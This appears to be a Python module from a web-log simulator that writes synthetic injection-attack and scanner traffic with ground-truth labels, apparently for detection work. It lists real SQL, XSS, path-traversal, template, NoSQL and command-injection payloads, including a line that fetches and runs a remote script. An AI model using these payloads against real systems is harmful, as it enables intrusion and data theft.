"""Web attacks: injection payloads in every place a request carries input, and a fast scanner.

Payloads follow public cheat sheets (OWASP, PayloadsAllTheThings), in the encodings tools send.
"""

from __future__ import annotations

import json
import random
from urllib.parse import quote, quote_plus

from simulator.alt.benign import SITE
from simulator.alt.emit import Who, Writer
from simulator.alt.net import Net
from simulator.alt.people import AGENTS, Member
from simulator.attacks import Truth

FAMILY = "injection"
PAYLOADS = {
    "sqli": (
        "1' AND (SELECT 7141 FROM (SELECT(SLEEP(5)))xQfz)-- -",
        "x') UNION ALL SELECT NULL,version(),NULL--",
        "-1 OR 3*2=6",
        "admin'/**/oR/**/'1'='1",
        "1;WAITFOR DELAY '0:0:5'--",
    ),
    "xss": (
        "<svg/onload=alert(document.domain)>",
        '"><img src=x onerror=prompt(1)>',
        "javascript:alert(1)//",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    ),
    "path_traversal": (
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fwindows%2fwin.ini",
        "....//....//....//etc/shadow",
        "/static/..%252f..%252f..%252fetc/hosts",
    ),
    "command_injection": (
        "127.0.0.1; cat /etc/passwd",
        "`id`",
        "x|nslookup abc.oast.fun",
        "$(curl -s 203.0.113.9/x.sh|sh)",
    ),
    "template_injection": (
        "{{7*'7'}}",
        "${7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= 7*7 %>",
        "#{7*7}",
    ),
    "nosql_injection": ('{"$gt": ""}', '{"$ne": null}', "[$regex]=.*", '{"$where": "sleep(5000)"}'),
}
PLACES = ("query", "form", "json", "path", "header")
# Filter-evasion forms, sent as-is in the query string (already encoded by the tool).
EVASIVE = {
    "sqli": (
        "id=1%2527%2520oR%25201%253D1--",
        "q=1%27/**/UnIoN/**/sElEcT/**/1,2,3--+",
        "sort=(CASE%20WHEN%201=1%20THEN%20price%20ELSE%20id%20END)",
    ),
    "xss": (
        "q=%3Csvg%0Aonload%3Dalert%281%29%3E",
        "next=javascript%26colon%3Balert%281%29",
        "q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    ),
    "path_traversal": ("file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "img=..%5c..%5c..%5cwindows%5cwin.ini"),
    "command_injection": ("host=127.0.0.1%0aid", "ping=%24%7BIFS%7Dcat%24%7BIFS%7D/etc/passwd"),
    "template_injection": ("name=%7B%7B%20self.__init__.__globals__%20%7D%7D", "greet=%24%7B%7B7*7%7D%7D"),
    "nosql_injection": ("user[%24ne]=x&pass[%24ne]=x", "email[%24regex]=.*&password[%24gt]="),
}


def _request(w: Writer, who: Who, ts: float, cls: str, payload: str, place: str) -> None:
    """One request with `payload` in `place`; the app answers most with an error page."""
    status = 400 if place in ("json", "form") else 404 if place == "path" else 200
    if place == "evasive":
        w.hit(ts, who, "GET", "/shop", status, query=payload)
    elif place == "query":
        key = "filter[email]" if cls == "nosql_injection" else "q"
        w.hit(ts, who, "GET", "/shop", status, query=f"{quote(key)}={quote_plus(payload)}&sort=price")
    elif place == "form":
        w.hit(
            ts,
            who,
            "POST",
            "/crm/contacts",
            status,
            body=f"csrf_token={w.token(64)}&name={quote_plus(payload)}",
        )
    elif place == "json":
        value = json.loads(payload) if cls == "nosql_injection" and payload.startswith("{") else payload
        w.hit(
            ts,
            who,
            "POST",
            "/distributors/me/profile",
            status,
            body=json.dumps({"display_name": value, "city": "Austin"}),
            mime="application/json",
        )
    elif place == "path":
        w.hit(ts, who, "GET", "/distributors/" + quote(payload, safe="/%"), status)
    else:  # payloads in headers reach the log through the referrer and user agent
        w.hit(
            ts,
            Who(who.ip, f"Mozilla/5.0 {payload}", who.device, who.user_id, who.user_name, who.session),
            "GET",
            "/shop",
            status,
            referrer=f"{SITE}/shop?q={quote_plus(payload)}",
        )


def careful(
    w: Writer, rng: random.Random, net: Net, members: list[Member], ts: float, cls: str, place: str
) -> Truth:
    """A signed-in member probing one field by hand: a few payloads between normal page views."""
    member = rng.choice(members)
    device = member.devices[0]
    who = Who(
        net.home_ip(rng, member.country), device.agent, device.id, member.id, member.username, w.token()
    )
    at, first = ts, None
    choices = EVASIVE[cls] if place == "evasive" else PAYLOADS[cls]
    for payload in rng.sample(choices, rng.randint(1, min(3, len(choices)))):
        w.hit(at, who, "GET", "/shop", referrer=SITE + "/")
        at += rng.uniform(15, 120)
        first = first or at
        _request(w, who, at, cls, payload, place)
    return Truth("", FAMILY, f"{cls}@{place}", [who.ip, member.id, who.session or ""], first or ts, at)


def scanner(w: Writer, rng: random.Random, net: Net, ts: float) -> Truth:
    """An automated scanner: hundreds of requests in minutes, every class, many 404s."""
    nuclei = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    who = Who(net.dc_ip(rng), rng.choice((nuclei, AGENTS[3].format(a=2))))
    at = ts
    for _ in range(rng.randint(200, 600)):
        at += rng.expovariate(8)
        if rng.random() < 0.5:
            w.hit(
                at,
                who,
                "GET",
                rng.choice(
                    (
                        "/.env",
                        "/.git/config",
                        "/wp-admin/",
                        "/actuator/env",
                        "/server-status",
                        "/phpinfo.php",
                        "/api/v1/users",
                        "/backup.zip",
                    )
                ),
                404,
            )
        else:
            cls = rng.choice(sorted(PAYLOADS))
            _request(w, who, at, cls, rng.choice(PAYLOADS[cls]), rng.choice(PLACES))
    return Truth("", FAMILY, "scanner", [who.ip], ts, at)
